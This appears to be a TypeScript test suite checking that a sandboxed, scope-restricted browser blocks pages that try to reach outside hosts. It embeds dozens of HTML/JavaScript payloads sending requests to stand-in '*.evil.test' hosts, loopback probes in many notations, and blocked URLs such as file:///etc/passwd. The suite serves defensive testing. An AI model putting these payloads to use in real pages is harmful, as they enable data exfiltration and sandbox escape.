import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { missingBrowser, within } from '../integration/playwright-kit.js'
import { type Guarded, openGuarded, rulesFor, startWorld, until, type World } from '../integration/scope-kit.js'

/** What pages try by themselves: each asks for `http://<name>.evil.test`. */
const LOADED: Readonly<Record<string, string>> = {
  image: '<img src="http://image.evil.test/x.png">',
  'image-redirect': '<img src="/redirect?to=http://image-redirect.evil.test/x.png">',
  'svg-image': '<svg><image href="http://svg-image.evil.test/x.png" width=9 height=9 /></svg>',
  script: '<script src="http://script.evil.test/x.js"></script>',
  'module-import': '<script type=module>import("http://module-import.evil.test/x.js").catch(() => {})</script>',
  modulepreload: '<link rel=modulepreload href="http://modulepreload.evil.test/x.js">',
  'css-link': '<link rel=stylesheet href="http://css-link.evil.test/x.css">',
  'css-import': '<style>@import url("http://css-import.evil.test/x.css");</style>',
  'css-background': '<style>body { background: url("http://css-background.evil.test/x.png") }</style>',
  font: '<style>@font-face { font-family: e; src: url("http://font.evil.test/x.woff2") } p { font-family: e }</style><p>text</p>',
  video: '<video src="http://video.evil.test/x.mp4" autoplay muted></video>',
  object: '<object data="http://object.evil.test/x"></object>',
  embed: '<embed src="http://embed.evil.test/x" type="text/html">',
  iframe: '<iframe src="http://iframe.evil.test/"></iframe>',
  'iframe-redirect': '<iframe src="/redirect?to=http://iframe-redirect.evil.test/"></iframe>',
  'iframe-srcdoc': '<iframe srcdoc="<img src=http://iframe-srcdoc.evil.test/x>"></iframe>',
  'iframe-data': '<iframe src="data:text/html,<script>fetch(`http://iframe-data.evil.test/`,{mode:`no-cors`})</script>"></iframe>',
  'iframe-blob': `<script>const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(
    ['<img src=http://iframe-blob.evil.test/x>'], { type: 'text/html' })); document.documentElement.append(f)</script>`,
  'iframe-javascript': `<iframe src="javascript:'<img src=http://iframe-javascript.evil.test/x>'"></iframe>`,
  fetch: '<script>fetch("http://fetch.evil.test/", { mode: "no-cors" }).catch(() => {})</script>',
  'fetch-redirect': '<script>fetch("/redirect?to=http://fetch-redirect.evil.test/", { mode: "no-cors" }).catch(() => {})</script>',
  xhr: '<script>const x = new XMLHttpRequest(); x.open("POST", "http://xhr.evil.test/"); x.send("x")</script>',
  ping: '<a id=p ping="http://ping.evil.test/" href="#x">x</a><script>p.click()</script>',
  beacon: '<script>navigator.sendBeacon("http://beacon.evil.test/", "x")</script>',
  eventsource: '<script>new EventSource("http://eventsource.evil.test/")</script>',
  websocket: '<script>new WebSocket("ws://websocket.evil.test/")</script>',
  worker: '<script>new Worker(URL.createObjectURL(new Blob([`fetch("http://worker.evil.test/", { mode: "no-cors" })`])))</script>',
  'worker-import': '<script>new Worker(URL.createObjectURL(new Blob([`importScripts("http://worker-import.evil.test/x.js")`])))</script>',
  'worker-websocket': '<script>new Worker(URL.createObjectURL(new Blob([`new WebSocket("ws://worker-websocket.evil.test/")`])))</script>',
  'shared-worker': '<script>new SharedWorker("/shared.js")</script>',
  'service-worker': '<script>navigator.serviceWorker.register("/service.js")</script>',
  prefetch: '<link rel=prefetch href="http://prefetch.evil.test/x">',
  preload: '<link rel=preload as=image href="http://preload.evil.test/x.png">',
  preconnect: '<link rel=preconnect href="http://preconnect.evil.test/">',
  icon: '<link rel=icon href="http://icon.evil.test/x.ico"><img src="http://icon.evil.test/y">', // headless loads no icons
  'meta-refresh': '<meta http-equiv=refresh content="0;url=http://meta-refresh.evil.test/">',
  location: '<script>setTimeout(() => { location = "http://location.evil.test/" })</script>',
  'location-redirect': '<script>setTimeout(() => { location = "/redirect?to=http://location-redirect.evil.test/" })</script>',
  'location-userinfo': '<script>setTimeout(() => { location = "http://example.com@location-userinfo.evil.test/" })</script>',
  'form-post': '<form method=post action="http://form-post.evil.test/"><input name=a></form><script>document.forms[0].submit()</script>',
  'iframe-top': '<iframe src="/top.html"></iframe>',
}

/** What they try after a click on `#go`. */
const CLICKED: Readonly<Record<string, string>> = {
  link: '<a id=go href="http://link.evil.test/">go</a>',
  'link-redirect': '<a id=go href="/redirect?to=http://link-redirect.evil.test/">go</a>',
  blank: '<a id=go target=_blank href="http://blank.evil.test/">go</a>',
  'blank-redirect': '<a id=go target=_blank href="/redirect?to=http://blank-redirect.evil.test/">go</a>',
  'window-open': '<button id=go onclick="window.open(`http://window-open.evil.test/`)">go</button>',
  'open-then-go': '<button id=go onclick="window.open(``).location = `http://open-then-go.evil.test/`">go</button>',
  'form-blank': '<form method=post target=_blank action="http://form-blank.evil.test/"><button id=go>go</button></form>',
}

const WORKERS = {
  '/shared.js': 'fetch("http://shared-worker.evil.test/", { mode: "no-cors" }).catch(() => {})',
  '/service.js': 'self.addEventListener("install", () => fetch("http://service-worker.evil.test/", { mode: "no-cors" }).catch(() => {}))',
  '/top.html': '<script>top.location = "http://iframe-top.evil.test/"</script>',
}

const LOOPBACK = ['127.0.0.1', '2130706433', '0x7f.1', '0177.1', '127.1', '[::1]', '[::ffff:127.0.0.1]', 'localhost', '0']

/** Pages of the tests that have a story of their own. */
const OTHERS: Readonly<Record<string, string>> = {
  '/unload-sendBeacon':
    '<script>addEventListener("pagehide", () => navigator.sendBeacon("http://sendbeacon-unload.evil.test/", "x"))</script>',
  '/unload-keepalive':
    '<script>addEventListener("pagehide", () => fetch("http://keepalive-unload.evil.test/", { keepalive: true, mode: "no-cors" }))</script>',
  '/javascript-link': '<a id=go href="javascript:setTimeout(() => { location = `http://javascript-link.evil.test/` }, 300)">go</a>',
  '/download': '<a id=go download href="/redirect?to=http://download.evil.test/x.zip">go</a>',
  '/dns-prefetch': '<link rel=dns-prefetch href="http://dns-prefetch.evil.test/"><img src="http://beside-dns.evil.test/x">',
  '/loopback': `<script>${LOOPBACK.map((host) => `fetch("http://${host}:EVIL_PORT/", { mode: "no-cors" }).catch(() => {})`).join('\n')}</script>`,
  '/udp': `<script>
    const gathered = async () => {
      const peer = new RTCPeerConnection({ iceServers: [
        { urls: 'stun:127.0.0.1:EVIL_PORT' },
        { urls: 'turn:127.0.0.1:EVIL_PORT?transport=udp', username: 'a', credential: 'b' },
        { urls: 'turn:127.0.0.1:EVIL_PORT?transport=tcp', username: 'a', credential: 'b' },
      ] })
      peer.createDataChannel('x')
      const candidates = []
      peer.onicecandidate = ({ candidate }) => candidates.push(candidate?.candidate ?? '')
      await peer.setLocalDescription(await peer.createOffer())
      await new Promise((resolve) => setTimeout(resolve, 1_500))
      return candidates.join(' ')
    }
    const transported = async () => {
      try { await new WebTransport('https://127.0.0.1:EVIL_PORT/').ready; return 'open' } catch (error) { return String(error) }
    }
    window.done = Promise.all([gathered(), transported()]).then(([stun, transport]) => ({ stun, transport }))
  </script>`,
}

describe.skipIf(missingBrowser !== undefined)('pages that try to leave the scope', () => {
  let world: World
  let guarded: Guarded
  const isInside = () => guarded.browser.pages().every((page) => /^(http:\/\/example\.com\/|about:blank)/.test(page.url()))

  beforeAll(async () => {
    const attacks = Object.entries({ ...LOADED, ...CLICKED }).map(([name, html]) => [`/${name}`, `<title>${name}</title>${html}`])
    world = await startWorld({ ...Object.fromEntries(attacks), ...WORKERS, '/': '<title>Home</title>', ...OTHERS })
    guarded = await openGuarded(world, { args: ['--unsafely-treat-insecure-origin-as-secure=http://example.com'] })
  })
  afterAll(async () => {
    await guarded?.stop()
    await world?.stop()
  })
  beforeEach(async () => {
    guarded.blocked.length = 0
    await guarded.goto('http://example.com/')
  })

  it.each(Object.keys(LOADED))('%s', async (name) => {
    const result = await guarded.goto(`http://example.com/${name}`)
    await until(`${name} is refused`, () => rulesFor(guarded.blocked, `${name}.evil.test`).length > 0)
    expect(rulesFor(guarded.blocked, `${name}.evil.test`)).toEqual(['host'])
    expect(['completed', 'blocked']).toContain(result.status)
    // whatever has left meanwhile is brought back before the next action, or after it when it leaves during it
    for (let round = 0; round < 5; round += 1) {
      await guarded.act({ type: 'wait_for', loadState: 'domcontentloaded' })
      if (isInside()) break
    }
    expect(isInside()).toBe(true)
    expect(world.evil.hits).toEqual([])
  })

  it.each(Object.keys(CLICKED))('%s', async (name) => {
    await guarded.goto(`http://example.com/${name}`)
    const result = await guarded.act({ type: 'click', target: { css: '#go' } })
    await until(`${name} is refused`, () => rulesFor(guarded.blocked, `${name}.evil.test`).length > 0)
    expect(result).toMatchObject({ status: 'blocked', error: { code: 'ACTION_BLOCKED', details: { rule: 'host' } } })
    expect(guarded.browser.pages().map((page) => page.url())).toEqual([`http://example.com/${name}`])
    expect(guarded.records.at(-1)).toMatchObject({ type: 'click', status: 'blocked', error: { code: 'ACTION_BLOCKED' } })
    expect(world.evil.hits).toEqual([])
  })

  it.each(['sendBeacon', 'keepalive'])('%s when the page is left', async (how) => {
    await guarded.goto(`http://example.com/unload-${how}`)
    expect((await guarded.goto('http://example.com/')).status).toBe('completed')
    await until('it is refused', () => rulesFor(guarded.blocked, `${how.toLowerCase()}-unload.evil.test`).length > 0)
    expect(world.evil.hits).toEqual([])
  })

  it('a download from elsewhere', async () => {
    await guarded.goto('http://example.com/download')
    await guarded.act({ type: 'click', target: { css: '#go' } })
    await until('it is refused', () => rulesFor(guarded.blocked, 'download.evil.test').length > 0)
    expect(world.evil.hits).toEqual([])
  })

  it('names are not even asked for: dns-prefetch', async () => {
    await guarded.goto('http://example.com/dns-prefetch')
    await until('the picture beside it is refused', () => rulesFor(guarded.blocked, 'beside-dns.evil.test').length > 0)
    expect(guarded.looked.filter((name) => !name.endsWith('example.com'))).toEqual([])
  })

  it('WebRTC and WebTransport send no packet', async () => {
    const result = await guarded.goto('http://example.com/udp')
    expect(result.status).toBe('completed')
    const page = guarded.browser.pages()[0]
    const candidates = await page?.evaluate('window.done', undefined, within(10_000))
    expect(candidates).toMatchObject({ stun: expect.any(String), transport: expect.any(String) })
    expect(world.evil.hits).toEqual([])
  })

  it.each([
    ...[
      'http://login.com/',
      'http://evil-example.com/',
      'http://example.com.evil.test/',
      'http://xn--xample-9uf.com/',
      'http://еxample.com/',
    ],
    ...['http://example.com@evil.test/', 'http://user:word@example.com/', 'http://2130706433/', 'http://0x7f000001/', 'http://0177.0.0.1/'],
    ...['http://127.1/', 'http://[::1]/', 'http://[::ffff:127.0.0.1]/', 'http://localhost/', 'data:text/html,x', 'javascript:alert(1)'],
    ...['file:///etc/passwd', 'chrome://version', 'view-source:http://example.com/', 'about:version', 'ftp://example.com/'],
  ])('an action that opens %s is refused before anything happens', async (url) => {
    const connections = guarded.connected.length
    const result = await guarded.goto(url)
    expect(result).toMatchObject({ status: 'blocked', error: { code: 'ACTION_BLOCKED', details: { rule: expect.any(String) } } })
    expect(guarded.connected.length).toBe(connections)
    expect(guarded.browser.pages()[0]?.url()).toBe('http://example.com/')
    expect(world.evil.hits).toEqual([])
  })

  it('an action whose address is in scope and redirects out is undone', async () => {
    const result = await guarded.goto('http://example.com/redirect?to=http://hop.evil.test/')
    expect(result).toMatchObject({
      status: 'blocked',
      error: { code: 'ACTION_BLOCKED', details: { rule: 'host', url: 'hop.evil.test:80' } },
    })
    expect(guarded.browser.pages()[0]?.url()).toBe('http://example.com/')
    expect(world.evil.hits).toEqual([])
  })

  it('a link that leaves after the action is brought back before the next one', async () => {
    await guarded.goto('http://example.com/javascript-link')
    await guarded.act({ type: 'click', target: { css: '#go' } })
    await until('it has left', () => guarded.browser.pages()[0]?.url().startsWith('chrome-error:') === true)
    expect(rulesFor(guarded.blocked, 'javascript-link.evil.test')).toEqual(['host'])
    expect((await guarded.act({ type: 'assert', target: { css: '#go' }, state: 'visible' })).status).toBe('completed')
    expect(guarded.browser.pages().map((page) => page.url())).toEqual(['http://example.com/javascript-link'])
    expect(world.evil.hits).toEqual([])
  })

  it('requests to this machine, in every notation', async () => {
    await guarded.goto('http://example.com/loopback')
    for (const host of ['127.0.0.1', '::1', 'localhost', '0.0.0.0']) {
      await until(`${host} is refused`, () => rulesFor(guarded.blocked, host).length > 0)
    }
    expect(world.evil.hits).toEqual([])
  })
})
